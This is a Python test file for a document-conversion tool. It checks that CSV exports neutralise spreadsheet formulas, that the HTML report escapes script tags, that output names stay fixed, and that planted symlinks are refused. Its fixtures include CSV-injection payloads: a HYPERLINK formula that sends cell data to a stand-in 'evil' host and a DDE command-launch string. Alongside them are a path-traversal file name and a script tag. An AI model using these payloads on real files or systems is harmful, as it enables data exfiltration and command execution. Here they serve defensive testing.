"""Output hygiene: formulas neutralised in CSV only, fixed output names, nothing written outside OUT."""
from __future__ import annotations

import csv
import io
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import planx
from planx.load import SqliteSink
from planx.load.csv import csv_lines
from planx.load.safety import OutputError, csv_row, neutralise_formula
from planx.load.schema import TABLES, columns
from tests.conftest import ROOT

HOSTILE = ["=HYPERLINK(\"http://evil/\"&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "＝1+1"]
OUTPUTS = {"documents.csv", "actions.csv", "milestones.csv", "ratings.csv", "indicators.csv", "leftovers.csv",
           "indicator_values.csv", "recommendations.csv",
           "plans.sqlite", "plans.sqlite-wal", "plans.sqlite-shm", "datapackage.json", "metadata.json", "report.html"}


@pytest.mark.parametrize("value", ["\tplain", "\rplain", " =1", "\n=1", "\t\t@x", "\r\n+x"])
def test_tab_and_cr_variants_are_neutralised(value):
    assert neutralise_formula(value) == "'" + value


def test_csv_row_checks_every_character_a_formula_can_start_with():
    """csv_row skips the regex for cells whose first character cannot start a formula:
    that shortcut must agree with neutralise_formula for every character."""
    for code in [*range(0x3000), *range(0xFF00, 0xFF70)]:
        value = chr(code) + "SUM(A1)"
        assert csv_row([value]) == [neutralise_formula(value)], repr(chr(code))
    assert csv_row([None, 3, 2.5, "=1+1", "plain"]) == ["", 3, 2.5, "'=1+1", "plain"]


FIELDS = st.one_of(st.sampled_from(["", ",", '"', "\n", "\r\n", "-27%", " =1", "a,b", 'say "x"', "=1+1", "＝1", "@x",
                                     "\tx", "plain"] + HOSTILE), st.text(max_size=12))


@settings(max_examples=400, deadline=None)
@given(st.lists(st.lists(FIELDS, min_size=3, max_size=3), max_size=6))
def test_csv_lines_write_what_csv_writer_writes(rows):
    """export_csv joins most lines in C and writes only the others field by field: byte for
    byte what csv.writer writes after csv_row, whatever the fields hold."""
    expected = io.StringIO(newline="")
    csv.writer(expected, lineterminator="\r\n").writerows(map(csv_row, rows))
    assert "".join(csv_lines(rows, 3)) == expected.getvalue()


def test_export_csv_equals_csv_writer_over_the_database(tmp_path):
    """The whole export (NULLs, numbers, text through SQL) against csv.writer over the same rows."""
    out = tmp_path / "out"
    planx.convert([_plan(tmp_path), ROOT / "samples"], out=out)
    sink = SqliteSink(out / "plans.sqlite")
    try:
        for table in TABLES:
            expected = io.StringIO(newline="")
            writer = csv.writer(expected, lineterminator="\r\n")
            writer.writerow(columns(table))
            writer.writerows(map(csv_row, sink.iter_rows(table)))
            assert (out / f"{table}.csv").read_bytes().decode("utf-8") == expected.getvalue(), table
    finally:
        sink.close()


def _plan(folder: Path) -> Path:
    rows = ["Improvement plan ../../escape.csv <script>alert(1)</script>", "Action\tLead\tTimescale",
            *(f"{v} the policy\t{v}\tMay 2016" for v in HOSTILE)]
    path = folder / "plan.txt"
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return path


def test_csv_neutralises_formulas_and_sqlite_keeps_the_text(tmp_path):
    out = tmp_path / "out"
    planx.convert(_plan(tmp_path), out=out)
    with open(out / "actions.csv", newline="", encoding="utf-8") as fh:
        leads = [r["lead"] for r in csv.DictReader(fh)]
    assert leads and all(v.startswith("'") for v in leads if v[:1] in "=+-@＝")
    stored = {r[0] for r in sqlite3.connect(out / "plans.sqlite").execute("SELECT lead FROM actions")}
    assert "=HYPERLINK(\"http://evil/\"&A1)" in stored and "@SUM(A1:A9)" in stored


def test_parquet_keeps_the_text_as_printed(tmp_path):
    pq = pytest.importorskip("pyarrow.parquet")
    out = tmp_path / "out"
    planx.convert(_plan(tmp_path), out=out, formats={"parquet"})
    leads = pq.read_table(out / "actions.parquet").column("lead").to_pylist()
    assert "=HYPERLINK(\"http://evil/\"&A1)" in leads and "@SUM(A1:A9)" in leads


def test_report_escapes_document_text(tmp_path):
    out = tmp_path / "out"
    planx.convert(_plan(tmp_path), out=out)
    if (out / "report.html").is_file():
        assert "<script>alert" not in (out / "report.html").read_text(encoding="utf-8")


def test_output_names_are_fixed_whatever_the_documents_say(tmp_path):
    out = tmp_path / "out"
    planx.convert(_plan(tmp_path), out=out)
    assert {p.name for p in out.iterdir()} <= OUTPUTS
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "plan.txt"]


def test_a_link_planted_in_the_output_folder_is_not_followed(tmp_path):
    out, victim = tmp_path / "out", tmp_path / "victim.txt"
    out.mkdir()
    victim.write_text("keep me", encoding="utf-8")
    (out / "actions.csv").symlink_to(victim)
    with pytest.raises(OutputError):
        planx.convert(_plan(tmp_path), out=out)
    assert victim.read_text(encoding="utf-8") == "keep me"
    (out / "actions.csv").unlink()
    (out / "plans.sqlite").unlink(missing_ok=True)
    (out / "plans.sqlite").symlink_to(victim)
    proc = subprocess.run([sys.executable, "-m", "planx", "convert", str(_plan(tmp_path)), "-o", str(out),
                           "--no-progress"], capture_output=True, text=True)
    assert proc.returncode == 2 and "refusing to write outside" in proc.stderr and "Traceback" not in proc.stderr
    assert victim.read_text(encoding="utf-8") == "keep me"


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(st.none(), st.integers(-(2 ** 63), 2 ** 63 - 1), st.floats(allow_nan=False),
                          st.text(max_size=6), st.binary(max_size=6)), min_size=1, max_size=8))
def test_numbers_read_as_text_by_cast_as_by_concatenation(values):
    """export_csv reads INTEGER/REAL columns as coalesce(CAST(x AS TEXT), '') (it used
    coalesce(x || '', ''), a concatenation more per field): the same text for any value a
    column can hold, in either column type."""
    con = sqlite3.connect(":memory:")
    con.text_factory = bytes  # compared as bytes: a blob's need not be UTF-8
    con.execute("CREATE TABLE t (i INTEGER, r REAL)")
    con.executemany("INSERT INTO t VALUES (?, ?)", [(v, v) for v in values])
    for col in ("i", "r"):
        old = con.execute(f"SELECT coalesce({col} || '', '') FROM t ORDER BY rowid").fetchall()
        new = con.execute(f"SELECT coalesce(CAST({col} AS TEXT), '') FROM t ORDER BY rowid").fetchall()
        assert new == old, col
